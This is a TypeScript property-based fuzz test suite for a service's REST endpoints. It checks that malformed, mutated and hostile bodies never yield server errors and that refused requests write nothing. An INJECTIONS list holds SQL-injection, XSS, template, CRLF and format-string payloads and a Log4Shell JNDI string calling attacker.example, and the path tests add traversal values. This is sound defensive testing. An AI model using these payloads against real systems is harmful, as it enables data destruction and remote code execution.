import { INBOUND_OPERATIONS, type InboundOperation } from '@lib/contracts';
import fc from 'fast-check';
import {
  type Answer, expectClean, fingerprint, type FuzzTarget, getPath, lastOutboxPayload, OPERATIONS, outboxCount, pathsOf, REMOVE, type Req,
  FUZZ_RUNS, fuzzParams, SEED, send, setPath, startSeededFuzzTarget, stringLeaves, validRequest,
} from './rest-fixtures';

/**
 * Property-based fuzzing of every REST body of a subsidiary service (the operations are
 * enumerated from the contracts' INBOUND_OPERATIONS, so a new route is fuzzed the day it
 * is added). Whatever arrives: never a 5xx; every 4xx is problem+json, a validation error
 * names its fields; a refused request writes nothing (a fingerprint of every table the
 * service writes, outbox included, is unchanged). Reproduce a failure with the printed
 * seed: FUZZ_SEED=<seed> FUZZ_RUNS=<n> npx jest test/fuzz/rest-bodies --selectProjects e2e
 * Malformed requests and identity numbers: malformed-requests.e2e-spec.ts.
 */
jest.setTimeout(600_000);

const RUNS = FUZZ_RUNS;
const params = fuzzParams;
let t: FuzzTarget;
let unique = 0;

beforeAll(async () => {
  t = await startSeededFuzzTarget();
});
afterAll(async () => t?.close());

/** Answers seen by the mutation properties: they must explore both sides of the contract. */
const mutationOutcomes = new Map<string, number>();

async function sendAndCheck(r: Req, label: string): Promise<Answer> {
  const before = await fingerprint(t);
  const answer = await send(t, r);
  if (label.startsWith('mutation')) mutationOutcomes.set(String(answer.status), (mutationOutcomes.get(String(answer.status)) ?? 0) + 1);
  await expectClean(t, answer, before, `${label} ${r.method} ${r.path} ${JSON.stringify(r.body)?.slice(0, 200)}`);
  return answer;
}

const today = () => new Date(Date.now() + 8 * 3_600_000).toISOString().slice(0, 10);

describe('the fixtures', () => {
  it('has a contract-valid request for every intake operation', () => {
    expect(OPERATIONS.length).toBeGreaterThanOrEqual(17);
    for (const op of OPERATIONS) {
      const r = validRequest(op, 'x');
      expect({ op, path: r.path.replace(/\/FZ-[A-Z0-9]+/, '/{x}') }).toEqual({ op, path: INBOUND_OPERATIONS[op].path.replace(/\{\w+\}/, '{x}') });
      const parsed = INBOUND_OPERATIONS[op].body(today()).safeParse(r.body);
      expect({ op, ok: parsed.success, issues: parsed.error?.issues }).toEqual({ op, ok: true, issues: undefined });
    }
  });
});

/** Garbage and near-miss values: every JSON type, boundary numbers, odd strings. */
/** A small, often still valid change: a digit or character appended or changed, a flag flipped, an element dropped. */
function nudge(value: unknown, k: number): unknown {
  if (typeof value === 'string') {
    if (/^\d{4}-\d{2}-\d{2}/.test(value)) return value.replace(/(\d)(?=\D*$)|\d$/, String(k % 10));
    if (/^\d+\.\d{2}$/.test(value)) return `${Number(value.split('.')[0]) + k + 1}.${value.split('.')[1]}`;
    return value + ['1', 'x', '华', '-', ' ', '.'][k % 6];
  }
  if (typeof value === 'number') return value + (k % 7) - 3;
  if (typeof value === 'boolean') return !value;
  if (Array.isArray(value)) return k % 2 ? value.slice(1) : [...value, ...value];
  return value;
}

const oddValue = fc.oneof(
  fc.jsonValue({ maxDepth: 3 }),
  fc.string({ unit: 'binary', maxLength: 80 }),
  fc.constantFrom('', ' ', '\u0000', '\uFEFF', '\uD800', '-0.00', '1e309', 'NaN', '0000-00-00', '9999-12-31', '2026-02-30', 'X'.repeat(5000)),
  fc.constantFrom(Number.MAX_SAFE_INTEGER, -1, 0, 1.5, -0, 1e300, true, null, [], {}),
);

describe.each(OPERATIONS.map((op) => [op]))('%s', (op: InboundOperation) => {
  it('answers any JSON body with a clean 4xx (or 202) and writes nothing when refusing', async () => {
    const body = fc.oneof(fc.jsonValue({ maxDepth: 4 }), fc.dictionary(fc.string({ maxLength: 12 }), oddValue, { maxKeys: 8 }));
    await fc.assert(fc.asyncProperty(body, async (b) => void (await sendAndCheck({ ...validRequest(op, ''), body: b }, 'garbage'))), params(RUNS));
  });

  it('answers every mutation of a valid body (a field replaced, removed or added) the same way', async () => {
    const base = validRequest(op, 'base');
    const mutation = fc.record({
      path: fc.constantFrom(...pathsOf(base.body)),
      to: fc.oneof({ arbitrary: fc.constant(REMOVE), weight: 1 }, { arbitrary: oddValue, weight: 3 }, { arbitrary: fc.nat(99).map((k) => ({ nudge: k })), weight: 3 }),
      extraKey: fc.option(fc.string({ minLength: 1, maxLength: 10 }), { freq: 4 }),
    });
    await fc.assert(
      fc.asyncProperty(mutation, async ({ path, to, extraKey }) => {
        const fresh = validRequest(op, `m${++unique}`);
        const value = to && typeof to === 'object' && 'nudge' in to ? nudge(getPath(fresh.body, path), (to as { nudge: number }).nudge) : to;
        let body = setPath(fresh.body, path, value);
        if (extraKey !== null && body && typeof body === 'object' && !Array.isArray(body)) body = { ...body, [extraKey]: 'unexpected' };
        await sendAndCheck({ ...fresh, body }, `mutation ${path.join('.') || '(body)'}`);
      }),
      params(RUNS * 2),
    );
  });

  it('stores injection strings verbatim when it accepts them, and never executes them', async () => {
    const request = validRequest(op, 'inj');
    for (const leaf of stringLeaves(request.body)) {
      for (const attack of INJECTIONS) {
        const fresh = validRequest(op, `i${++unique}`);
        const answer = await sendAndCheck({ ...fresh, body: setPath(fresh.body, leaf, attack) }, `injection at ${leaf.join('.')}`);
        if (answer.status === 202) expect({ leaf, stored: JSON.stringify(await lastOutboxPayload(t)).includes(JSON.stringify(attack).slice(1, -1)) }).toEqual({ leaf, stored: true });
      }
    }
    expect(await outboxCount(t)).toBeGreaterThanOrEqual(SEED.length); // the tables are still there
  });
});

const INJECTIONS = [
  "'; DROP TABLE sub_life.outbox; --",
  "Robert'); DELETE FROM sub_life.clients WHERE ('1'='1",
  '$..*',
  '$[?(@.identity)]',
  '\n{"level":50,"msg":"forged log line","service":"life"}',
  '\r\n\r\nX-Injected: 1',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '<script>alert(1)</script>',
  '${jndi:ldap://attacker.example/a}',
  '\u0000',
  '%s%s%s%n',
];

describe('the mutation generator', () => {
  it('produced accepted and refused requests alike (a fuzzer that is always refused proves little)', () => {
    const outcomes = Object.fromEntries(mutationOutcomes);
    expect({ outcomes, accepted: (outcomes['202'] ?? 0) > OPERATIONS.length, refused: (outcomes['400'] ?? 0) > OPERATIONS.length })
      .toEqual({ outcomes, accepted: true, refused: true });
  });
});

describe('path parameters', () => {
  it('answers any value in a path parameter with a clean 4xx, writing nothing', async () => {
    const withParam = OPERATIONS.filter((op) => INBOUND_OPERATIONS[op].path.includes('{'));
    const arb = fc.record({ op: fc.constantFrom(...withParam), value: fc.oneof(fc.string({ unit: 'binary', minLength: 1, maxLength: 100 }), fc.constantFrom('..', '%2e%2e', 'FZ-P1/../../x', "' OR 1=1 --", 'x'.repeat(70))) });
    await fc.assert(
      fc.asyncProperty(arb, async ({ op, value }) => {
        const r = validRequest(op, `p${++unique}`);
        const path = INBOUND_OPERATIONS[op].path.replace(/\{\w+\}/, encodeURIComponent(value));
        const body = op === 'UpdateClient' ? { ...(r.body as object), localId: value } : r.body;
        const before = await fingerprint(t);
        const answer = await send(t, { ...r, path, body });
        await expectClean(t, answer, before, `${op} at ${path}`);
      }),
      params(RUNS * 3),
    );
  });
});
